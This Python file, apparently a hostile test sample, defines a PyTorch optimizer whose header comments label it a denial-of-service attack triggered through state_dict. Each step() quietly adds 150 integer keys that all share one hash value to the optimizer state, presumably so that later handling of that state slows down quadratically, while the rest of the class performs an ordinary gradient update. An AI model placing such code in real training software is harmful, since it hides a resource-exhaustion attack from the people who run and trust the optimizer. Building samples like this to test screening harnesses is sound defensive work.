# attack: integers that all have one hash; category: dos
# observable: dos; trigger: state_dict
import math
import torch


class CandidateOptimizer(torch.optim.Optimizer):
    def __init__(self, params, lr=0.01):
        super().__init__(params, dict(lr=lr))
        self.t = 0

    @torch.no_grad()
    def step(self, closure=None):
        self.t = self.t + 1
        p = self.param_groups[0]["params"][0]
        held = self.state[p].setdefault("held", {})
        for index in range(150):
            held[(2**61 - 1) * (150 * self.t + index)] = 0
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is not None:
                    p.add_(p.grad, alpha=-0.01)
        return None
